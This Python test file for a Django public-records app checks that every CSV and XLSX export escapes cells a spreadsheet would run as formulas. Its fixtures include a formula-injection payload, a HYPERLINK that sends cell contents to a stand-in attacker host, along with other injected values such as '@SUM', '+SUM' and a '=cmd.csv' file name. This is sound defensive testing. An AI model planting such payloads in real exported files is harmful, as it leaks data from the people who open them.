"""Every file the site writes for people to open goes through ops/spreadsheets.py, so a cell
that a spreadsheet would run as a formula reaches it as text, whoever wrote the cell: an
agency's release, the shared agency directory or a user."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from requests_app.auditlogs.models import SearchEvent
from requests_app.campaigns.coverage import needs_contact_csv
from requests_app.campaigns.packets import write_campaign_packets
from requests_app.documents.models import RequestDocument
from tests.auditlogs.test_analyze import NETWORK_14, write_csv
from tests.auditlogs.test_reports import audit_import, make_campaign
from tests.campaigns.test_coverage import reached  # noqa: F401 (a fixture)
from tests.documents.test_upload import up
from tests.factories import AgencyFactory, draft_request

ROOT = Path(__file__).resolve().parents[2] / "requests_app"
HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"ICE warrant")'
# The demo's invented releases are input for the importer, written as an agency would.
NOT_FOR_PEOPLE = {"demo/files.py"}


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def running(rows: list[dict[str, str]]) -> list[str]:
    """Every cell a spreadsheet would run."""
    return [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]


def test_no_module_writes_csv_but_through_the_safe_writer():
    found = []
    for path in ROOT.rglob("*.py"):
        name = path.relative_to(ROOT).as_posix()
        if name in NOT_FOR_PEOPLE or name == "ops/spreadsheets.py" or "/migrations/" in name:
            continue
        if re.search(r"\bcsv\.(?:writer|DictWriter)\(", path.read_text()):
            found.append(name)
    assert found == []


@pytest.mark.django_db
def test_the_flagged_searches_csv_of_a_request_and_of_a_campaign(alice, alice_client):
    campaign = make_campaign(alice, ["OR"])
    request = campaign.requests.get()
    SearchEvent.objects.filter(request=request).update(reason=HOSTILE, organization="@SUM(1,1)", user="+1-555")
    for url in (reverse("audit-flagged-csv", args=[request.pk]),
                reverse("campaign-audit-flagged-csv", args=[campaign.pk])):
        rows = rows_of(b"".join(alice_client.get(url).streaming_content).decode())
        assert rows and running(rows) == []
        assert {r["reason"] for r in rows} == {"'" + HOSTILE} and {r["organization"] for r in rows} == {"'@SUM(1,1)"}


@pytest.mark.django_db
def test_the_sharing_partners_csv(alice, alice_client):
    from requests_app.auditlogs.models import SharingRelation

    request = draft_request(organization=alice.organization, user=alice.user, agency=AgencyFactory())
    SharingRelation.objects.create(request=request, audit_import=audit_import(request), organization=HOSTILE,
                                   direction="sharing", kind="other", networks_sharing=["-Evil", "Good"])
    rows = rows_of(b"".join(alice_client.get(reverse("audit-sharing-csv", args=[request.pk])).streaming_content)
                   .decode())
    assert running(rows) == [] and rows[0]["networks_sharing"] == "'-Evil; Good"


def test_the_flagged_searches_file_of_the_command_line(tmp_path):
    row = ["s-1", "***", "-Rogue PD", "1", "2", "", "***", HOSTILE, "", "", "01/31/2025, 11:26:24 PM UTC", "lookup",
           "", ""]
    out = tmp_path / "flagged.csv"
    call_command("analyze_audit_log", str(write_csv(tmp_path / "a.csv", NETWORK_14, [row])), "--flagged", str(out),
                 stdout=io.StringIO())
    rows = rows_of(out.read_text())
    assert rows and running(rows) == [] and rows[0]["reason"] == "'" + HOSTILE


@pytest.mark.django_db
def test_the_needs_contact_list_and_the_packets_index(reached):  # noqa: F811
    campaign, _ = reached
    assert running(rows_of(needs_contact_csv(campaign))) == []
    out = io.BytesIO()
    write_campaign_packets(campaign, out)
    with zipfile.ZipFile(out) as archive:
        index = rows_of(archive.read("index.csv").decode())
    assert running(index) == [] and "'=Formula County Sheriff" in {r["agency"] for r in index}


@pytest.mark.django_db
def test_a_requests_packet_manifest(alice, alice_client):
    request = draft_request(organization=alice.organization, user=alice.user, agency=AgencyFactory())
    up(request, "=cmd.csv", b"a,b\n1,2\n")
    RequestDocument.objects.filter(request=request).update(note="+SUM(A1:A9)")
    response = alice_client.get(reverse("request-packet", args=[request.pk]))
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        rows = rows_of(archive.read("manifest.csv").decode())
    assert running(rows) == [] and any("+SUM(A1:A9)" in cell for row in rows for cell in row.values())


@pytest.mark.django_db
def test_the_request_list_exports(alice, alice_client):
    from openpyxl import load_workbook

    draft_request(organization=alice.organization, user=alice.user, agency=AgencyFactory(name="=Evil Sheriff"))
    text = b"".join(alice_client.get(reverse("request-export-csv")).streaming_content).decode()
    assert running(rows_of(text)) == [] and "'=Evil Sheriff" in text
    book = load_workbook(io.BytesIO(alice_client.get(reverse("request-export-xlsx")).content), read_only=True)
    cells = [c for row in book.worksheets[0].iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert "'=Evil Sheriff" in cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
